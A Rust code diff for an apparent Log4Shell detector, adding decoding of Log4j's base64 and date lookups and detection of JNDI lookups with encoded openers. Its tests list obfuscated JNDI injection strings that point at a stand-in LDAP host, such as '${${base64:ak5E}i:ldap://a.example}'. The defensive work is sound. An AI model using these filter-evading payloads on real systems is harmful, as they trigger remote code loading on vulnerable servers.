@@ -110,6 +110,12 @@ fn lookup(text: &[u8], value: &mut [u8; 64]) -> Option<usize> {
             let argument = if argument == "\u{131}".as_bytes() { b"i" } else { argument };
             return fill(value, argument, |b| b.to_ascii_uppercase());
         }
+        if prefix.eq_ignore_ascii_case(b"base64") {
+            return base64(argument, value);
+        }
+        if prefix.eq_ignore_ascii_case(b"date") && argument.is_empty() {
+            return Some(0);
+        }
         if prefix.eq_ignore_ascii_case(b"date") && argument.len() > 2 && argument.len() < 12 {
             // SimpleDateFormat: text in quotes stands for itself.
             let inner = argument.strip_prefix(b"'")?.strip_suffix(b"'")?;
@@ -118,6 +124,29 @@ fn lookup(text: &[u8], value: &mut [u8; 64]) -> Option<usize> {
     }
     let default = text.get(delimiter? + 2..)?;
     fill(value, default, |b| b)
+}
+
+/// Log4j's lookup of base64 text.
+fn base64(text: &[u8], value: &mut [u8; 64]) -> Option<usize> {
+    let (mut bits, mut held, mut len) = (0u32, 0u32, 0);
+    for b in text {
+        let sign = match b {
+            b'A'..=b'Z' => b - b'A',
+            b'a'..=b'z' => b - b'a' + 26,
+            b'0'..=b'9' => b - b'0' + 52,
+            b'+' => 62,
+            b'/' => 63,
+            b'=' => break,
+            _ => return None,
+        };
+        (bits, held) = (bits << 6 | u32::from(sign), held + 6);
+        if held >= 8 {
+            held -= 8;
+            *value.get_mut(len)? = (bits >> held) as u8;
+            len += 1;
+        }
+    }
+    Some(len)
 }
 
 fn fill(value: &mut [u8; 64], text: &[u8], each: impl Fn(u8) -> u8) -> Option<usize> {
@@ -130,15 +159,37 @@ fn fill(value: &mut [u8; 64], text: &[u8], each: impl Fn(u8) -> u8) -> Option<us
 
 /// Judges one value.
 pub(super) fn judge(value: &Value<'_>, hits: &mut Hits) {
-    if !value.wake.any(Wake::BRACE) || !value.wake.any(Wake::DOLLAR) {
-        return;
-    }
     let bytes = value.bytes;
-    let Some(first) = find(bytes, b"${") else { return };
+    let first = if value.wake.all(Wake::BRACE.or(Wake::DOLLAR)) { find(bytes, b"${") } else { None };
+    let Some(first) = first else {
+        if value.wake.all(Wake::COLON.or(Wake::SLASH))
+            && value.wake.any(Wake::BRACE.or(Wake::AMPERSAND).or(Wake::PERCENT).or(Wake::DOLLAR))
+            && let Some(hit) = unopened(bytes)
+        {
+            hits.push(hit);
+        }
+        return;
+    };
     let mut e = Evaluator { out: [0; OUT], len: 0, open: [(0, 0); DEPTH], depth: 0, letters: 0, steps: 0 };
     if let Some(hit) = run(bytes, first, &mut e) {
         hits.push(hit);
     }
+}
+
+/// `jndi:ldap://..` behind an opener that only another decoder would read (`$&lbrace;`, `%7B` twice encoded, a brace
+/// without its dollar): the address alone is of no use to anything but a lookup.
+fn unopened(bytes: &[u8]) -> Option<Hit> {
+    let at = find_no_case(bytes, b"jndi:")?;
+    let rest = bytes.get(at + 5..)?;
+    let rest = rest.get(..24).unwrap_or(rest);
+    let opened = bytes.get(at.saturating_sub(12)..at)?.iter().any(|b| matches!(b, b'$' | b'&' | b'{' | b'%'));
+    (protocol(rest) && find(rest, b":/").is_some() && opened).then(|| {
+        jndi(
+            72,
+            at..bytes.len().min(at + 64),
+            "a JNDI lookup whose opening is spelt so that a filter reads past it",
+        )
+    })
 }
 
 fn run(bytes: &[u8], first: usize, e: &mut Evaluator) -> Option<Hit> {
@@ -292,6 +343,8 @@ mod tests {
             "${jnd${upper:\u{131}}:ldap://a.example}",
             "${${::-${::-j}}ndi:ldap://a.example}",
             "${jndi:${lower:L}dap://a.example}",
+            "${${base64:ak5E}i:ldap://a.example}",
+            "${jnd${date:}i:ldap://a.example}",
         ] {
             assert_eq!(confidence(text), 99, "{text}");
         }
